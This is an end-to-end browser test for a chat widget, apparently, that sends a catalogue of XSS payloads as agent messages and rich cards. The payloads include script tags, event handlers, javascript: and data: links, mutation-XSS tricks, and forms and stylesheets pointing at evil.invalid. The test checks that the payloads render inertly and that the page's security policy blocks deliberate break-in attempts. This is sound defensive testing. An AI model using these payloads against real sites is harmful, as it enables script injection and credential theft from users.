package e2e

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	cdp "github.com/chromedp/chromedp"

	"github.com/axpchat/connector/services/internal/suitetest"
)

// hostile are texts that would take the customer's page over, were any of them
// shown as it is. Each of them sets window.pwned or asks for what is not there.
var hostile = []string{
	`<script>window.pwned = 1</script>`,
	`<scr<script>ipt>window.pwned = 2</scr</script>ipt>`,
	`<img src=x onerror="window.pwned = 3">`,
	`<svg onload="window.pwned = 4"><script>window.pwned = 4</script><use href="data:image/svg+xml,<svg/>"/></svg>`,
	`<svg><a xlink:href="javascript:window.pwned=5"><text y="20">press</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=6&gt;">`,
	`<a href="javascript:window.pwned=7">press</a> <a href=" java&#115;cript:window.pwned=7">press</a> <a href="JaVaScRiPt&colon;window.pwned=7">press</a>`,
	`<a href="data:text/html,<script>window.pwned=8</script>">press</a> <a href="vbscript:x">press</a> <a href="file:///etc/passwd">press</a> <a href="//evil.invalid/x">press</a> <a href="/static/js/main.js">press</a>`,
	`<a href="https://evil.invalid/" target="_self" rel="opener" ping="https://evil.invalid/" onclick="window.pwned=9" download style="position:fixed;inset:0">press</a>`,
	`<iframe src="javascript:window.pwned=10" srcdoc="<script>parent.pwned=10</script>"></iframe><object data="data:text/html,x"></object><embed src="//evil.invalid">`,
	`<form action="https://evil.invalid/" id="chat-input"><input name="password"><button formaction="javascript:window.pwned=11">log in</button></form>`,
	`<style>* { display: none !important }</style><link rel="stylesheet" href="https://evil.invalid/x.css"><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
	`<p style="position:fixed;inset:0;background:url(https://evil.invalid/)" id="app" class="chat-panel" data-testid="logout" name="body" onmouseover="window.pwned=12" tabindex=0 autofocus onfocus="window.pwned=12">over everything</p>`,
	`<template><script>window.pwned = 13</script></template><noscript><p title="</noscript><img src=x onerror=window.pwned=13>"></noscript><textarea></textarea><title><img src=x onerror=window.pwned=13></title>`,
	`<details open ontoggle="window.pwned=14"><summary>x</summary></details><video src=x onerror="window.pwned=14"></video><body onload="window.pwned=14">`,
	"[press](javascript:window.pwned=15) [press](  javascript:window.pwned=15) [press](data:text/html,x) ![x](https://evil.invalid/track.png) <javascript:window.pwned=15> [x](https://evil.invalid/\"onmouseover=\"window.pwned=15)",
	"[press][1]\n\n[1]: javascript:window.pwned=16\n\n<img src=x onerror=window.pwned=16>\n\n```html\n<script>window.pwned=16</script>\n```",
	"https://evil.invalid/\"><script>window.pwned=17</script> javascript:window.pwned=17 http://[::1]:x/",
	`<constructor>a</constructor><tostring>b</tostring><isprototypeof>c</isprototypeof><proto--><toString is="constructor">d</toString>`,
	strings.Repeat("[", 1300) + strings.Repeat("**a", 500) + strings.Repeat("> ", 300),
	strings.Repeat("<div>", 3000) + `<img src=x onerror="window.pwned=18">`,
	strings.Repeat("<b><i>", 300) + `<script>window.pwned=19</script>`,
}

// richHostile are buttons, cards and files of the same kind, as the page's own
// script is given them.
const richHostile = `[
  {"actions": [{"type": "link", "text": "press", "uri": "javascript:window.pwned=20"}, {"type": "link", "text": "press", "uri": "data:text/html,x"},
    {"type": "link", "text": "<img src=x onerror=window.pwned=20>", "uri": "https://evil.invalid/"},
    {"type": "reply", "text": "<script>window.pwned=20</script>", "payload": "x", "iconUrl": "javascript:window.pwned=20"}]},
  {"items": [{"title": "<script>window.pwned=21</script>", "description": "<img src=x onerror=window.pwned=21>", "mediaUrl": "data:image/svg+xml,<svg onload='window.pwned=21'/>",
    "actions": [{"type": "link", "text": "press", "uri": "jaVascript:window.pwned=21"}]}]},
  {"location": {"name": "<svg onload=window.pwned=22>", "address": "\"><script>window.pwned=22</script>"}, "coordinates": {"lat": "javascript:1", "long": 2}}
]`

// shownSafely says what is wrong with what the conversation shows, or nothing:
// elements of the page's own making alone, without handlers and styles; links that
// lead out, to the web, and give nothing away.
const shownSafely = `(() => {
  const allowed = new Set(["A", "B", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE", "H4", "HR", "IMG", "LI", "OL", "P", "PRE", "S", "SPAN", "STRONG", "SUB", "SUP", "U", "UL", "svg", "path"]);
  // The policy holds for what is parsed apart from the page, too, and says so of
  // handlers and styles that nobody would have run.
  const apart = new Set(["script-src-attr", "style-src-attr", "style-src-elem", "base-uri"]);
  const wrong = [];
  for (const e of document.querySelectorAll(".bubble *")) {
    if (!allowed.has(e.tagName)) wrong.push("element " + e.tagName);
    for (const a of e.attributes) {
      if (/^on|^style$|^id$|^name$|^srcdoc$|^ping$|^formaction$|^xlink/i.test(a.name)) wrong.push("attribute " + a.name);
    }
    if (e.tagName === "IMG" && !/^https?:/.test(e.getAttribute("src") ?? "https:")) wrong.push("picture " + e.src);
    if (e.tagName !== "A") continue;
    if (!/^https?:$/.test(e.protocol) || e.host === location.host) wrong.push("link to " + e.getAttribute("href"));
    if (e.target !== "_blank" || e.rel !== "noopener noreferrer nofollow" || e.referrerPolicy !== "no-referrer" || e.download) wrong.push("link " + e.outerHTML);
  }
  if (window.pwned !== undefined) wrong.push("a script of text " + window.pwned + " ran");
  const stepped = window.violations.filter((v) => !apart.has(v.split(" ")[0]));
  if (stepped.length) wrong.push("the policy had to step in: " + stepped.join("; "));
  if (!document.querySelector("[data-testid=chat-input]").offsetParent) wrong.push("the chat can't be used any more");
  return wrong.join("\n");
})()`

// TestHostileMessagesAreShownAsWords: whatever an agent, a bot or who has taken one
// over writes, the customer's page shows it and does nothing of it; and should a
// hole be found some day, the page's policy closes it.
func TestHostileMessagesAreShownAsWords(t *testing.T) {
	bin := chromium(t)
	s := suitetest.Start(t)
	desk := s.Desk("Mallory")
	ctx, cancel := context.WithTimeout(t.Context(), 4*patience)
	defer cancel()
	page := newBrowser(t, bin)
	page.do("open the site", cdp.EmulateViewport(1280, 800), cdp.Navigate(s.HTTP+"/"), cdp.WaitVisible(cdp.CSS("#login-name")))
	page.do("watch the policy", js(`window.violations = []; document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.effectiveDirective + " " + e.blockedURI))`))
	page.do("log in", cdp.SendKeys(cdp.CSS("#login-name"), "Maren Solheim"), cdp.Click(cdp.CSS("#login-button")), cdp.WaitVisible(cdp.CSS("[data-testid=chat-open]")))
	page.do("open the chat", cdp.Click(cdp.CSS("[data-testid=chat-open]")), cdp.WaitVisible(cdp.CSS("[data-testid=chat-start]")), cdp.Click(cdp.CSS("[data-testid=chat-start]")))
	chat, err := desk.Find(ctx, "Maren Solheim", func(c suitetest.DeskChat) bool { return c.Waiting && c.Status == "ACTIVE" })
	if err == nil {
		err = desk.Accept(ctx, chat.DialogID)
	}
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"HTML", "MARKDOWN", "PLAINTEXT"} {
		for i, text := range hostile {
			if len(text) > 4096 {
				text = text[:4000] + text[len(text)-60:]
			}
			in := map[string]string{"text": text, "textFormat": format}
			if err := suitetest.CallJSON(ctx, http.MethodPost, s.Sandbox+"/desk/api/chats/"+chat.DialogID+"/messages", "", in, nil); err != nil {
				t.Fatalf("%s %d: %v", format, i, err)
			}
		}
		if err := desk.Say(ctx, chat.DialogID, "That was "+format); err != nil {
			t.Fatal(err)
		}
		page.sees("[data-testid=chat-log]", "That was "+format)
	}
	page.holds("each is there", `document.querySelectorAll("[data-testid=chat-log] [data-from=agent]").length >= `+jsonOf(t, 3*len(hostile)))
	page.do("show buttons and cards", js(`import("/static/js/rich/content.js").then(({ content }) => {
		const host = { enabled: true, act() {}, attachmentUrl: async () => "javascript:window.pwned=23" };
		const log = document.querySelector("[data-testid=chat-log] .bubble");
		for (const richMediaPayload of `+richHostile+`) log.append(...content({ status: "sent", message: { body: { richMediaPayload } } }, host));
		const files = ["text/html", "image/svg+xml", "image/png"].map((contentType) => ({ contentType, mediaId: "m", name: "<img src=x onerror=window.pwned=23>.html", url: "data:text/html,<script>window.pwned=23</script>" }));
		log.append(...content({ status: "sent", message: { attachments: files } }, host));
		window.rich = true;
	})`))
	page.holds("buttons and cards are there", `window.rich && document.querySelectorAll(".bubble .card").length > 0`)
	page.do("press everything", js(`for (const e of document.querySelectorAll(".bubble button, .bubble .file")) e.click(); for (const e of document.querySelectorAll(".bubble *")) { e.dispatchEvent(new Event("mouseover")); e.dispatchEvent(new Event("focus")); e.dispatchEvent(new Event("toggle")); }`))
	page.holds("pictures that can't be shown have given way", `document.querySelectorAll(".bubble .picture img").length === 0`)
	if wrong, err := cdp.Run(page.ctx, cdp.Evaluate[string](shownSafely)); err != nil || wrong != "" {
		page.shot("hostile-failed")
		t.Errorf("%v: %s", err, wrong)
	}
	page.shot("14-hostile")
	page.say("I am still here")
	holesAreClosed(t, page)
}

// holesAreClosed breaks in on purpose: the policy must not let it happen.
func holesAreClosed(t *testing.T, page *browser) {
	t.Helper()
	for name, hole := range map[string]struct{ script, holds string }{
		"a text as HTML":         {`try { document.body.innerHTML = "<b>x</b>" } catch { window.closed1 = true }`, `window.closed1 && document.querySelector("#app")`},
		"a script in the page":   {`try { const e = document.createElement("script"); e.text = "window.pwned = 31"; document.head.append(e) } catch {} window.closed2 = true`, `window.closed2 && window.pwned === undefined`},
		"a handler":              {`const e = document.createElement("b"); try { e.setAttribute("onclick", "window.pwned = 32") } catch {} e.click(); window.closed3 = true`, `window.closed3 && window.pwned === undefined`},
		"a script from outside":  {`try { const e = document.createElement("script"); e.src = "https://evil.invalid/x.js"; document.head.append(e) } catch {} window.closed4 = true`, `window.closed4`},
		"what is said elsewhere": {`fetch("http://127.0.0.1:1/", { mode: "no-cors" }).catch(() => {})`, `window.violations.some((v) => v.startsWith("connect-src http://127.0.0.1:1"))`},
		"a socket elsewhere":     {`try { new WebSocket("ws://127.0.0.1:1/") } catch {}`, `window.violations.some((v) => v.startsWith("connect-src ws://127.0.0.1:1"))`},
		"a frame":                {`const e = document.createElement("iframe"); e.src = "/docs"; document.body.append(e)`, `window.violations.some((v) => v.startsWith("frame-src"))`},
		"a form":                 {`const e = document.createElement("form"); e.action = "http://127.0.0.1:1/"; document.body.append(e); e.requestSubmit()`, `window.violations.some((v) => v.startsWith("form-action"))`},
		"another base":           {`const e = document.createElement("base"); e.href = "http://127.0.0.1:1/"; document.head.append(e)`, `document.baseURI.startsWith(location.origin)`},
	} {
		page.do(name, js("{"+hole.script+"}"))
		page.holds("closed: "+name, hole.holds)
	}
}

func jsonOf(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
